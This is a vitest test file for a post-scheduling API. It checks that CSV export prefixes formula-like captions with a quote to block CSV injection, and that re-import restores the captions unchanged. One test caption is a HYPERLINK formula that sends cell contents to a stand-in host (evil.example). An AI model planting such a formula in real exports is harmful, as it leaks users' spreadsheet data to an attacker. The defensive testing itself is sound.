import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type SandboxServer, seedUser, startSandboxServer } from './sandbox-server.js';

// Issue 30: the CSV export kept captions beginning with `=`, `+`, `-` or `@` as live spreadsheet
// formulas (OWASP's CSV injection). Through a started server: the export neutralises every such
// cell with a leading single quote inside a quoted field, and importing the file back creates
// posts with the captions exactly as they were written.
const CAPTIONS = [
  '=SUM(A1)',
  '-5% today',
  '+1 for spring',
  '@here the sale starts',
  '\tTabbed in',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "'=already quoted",
  "'plain quote",
  'Nothing to see',
];

describe('the CSV export neutralises formulas and the import reads them back', () => {
  let server: SandboxServer;
  let key: string;
  let threads: string;

  beforeAll(async () => {
    server = await startSandboxServer();
    const seeded = await seedUser(server, ['threads']);
    key = seeded.key;
    threads = seeded.accounts.threads ?? '';
  }, 60_000);
  afterAll(() => server?.close());

  const exportCsv = async (): Promise<string> => {
    const res = await fetch(`${server.url}/api/v1/posts/export?format=csv&status=scheduled`, {
      headers: { Authorization: `Bearer ${key}` },
    });
    expect(res.status).toBe(200);
    return res.text();
  };

  it('prefixes formula cells with a quote, inside quotes, and a round trip keeps every caption', async () => {
    const created: string[] = [];
    for (const [i, caption] of CAPTIONS.entries()) {
      const res = await server.call('/api/v1/posts', key, {
        method: 'POST',
        json: {
          platforms: ['threads'],
          profileIds: [threads],
          caption,
          category: i === 0 ? '-internal' : null,
          scheduledTime: `2031-0${1 + (i % 9)}-01T09:00:00Z`,
        },
      });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      created.push(...res.body.postIds);
    }

    const csv = await exportCsv();
    // No cell of a record begins with a character a spreadsheet reads as a formula.
    const lines = csv.split('\r\n').filter((l) => l !== '');
    for (const line of lines.slice(1)) {
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g) ?? []) {
        expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell, line).not.toMatch(/^"[=+\-@\t\r]/);
      }
    }
    expect(csv).toContain(`"'=SUM(A1)"`);
    expect(csv).toContain(`"'-5% today"`);
    expect(csv).toContain(`"'+1 for spring"`);
    expect(csv).toContain(`"'@here the sale starts"`);
    expect(csv).toContain(`"'\tTabbed in"`);
    expect(csv).toContain(`"'-internal"`);
    expect(csv).toContain(`"''=already quoted"`);
    expect(csv).toContain(`"'plain quote"`);
    expect(csv).toContain('\r\nNothing to see,threads,');

    // The same content again would be a repeat: the originals go first, then the file comes back.
    for (const id of created) {
      expect((await server.call(`/api/v1/posts/${id}`, key, { method: 'DELETE' })).status).toBe(200);
    }
    const imported = await fetch(`${server.url}/api/v1/posts/bulk`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'text/csv' },
      body: csv,
    });
    const result = (await imported.json()) as { totals: { ok: number }; rows: { postIds?: string[] }[] };
    expect(imported.status, JSON.stringify(result)).toBe(200);
    expect(result.totals.ok, JSON.stringify(result)).toBe(CAPTIONS.length);

    const again = [];
    for (const row of result.rows) {
      const res = await server.call(`/api/v1/posts/${row.postIds?.[0]}`, key);
      again.push({ caption: res.body.caption, category: res.body.category });
    }
    expect(again.map((p) => p.caption).sort()).toEqual([...CAPTIONS].sort());
    expect(again.filter((p) => p.category !== null)).toEqual([
      { caption: '=SUM(A1)', category: '-internal' },
    ]);
  });
});
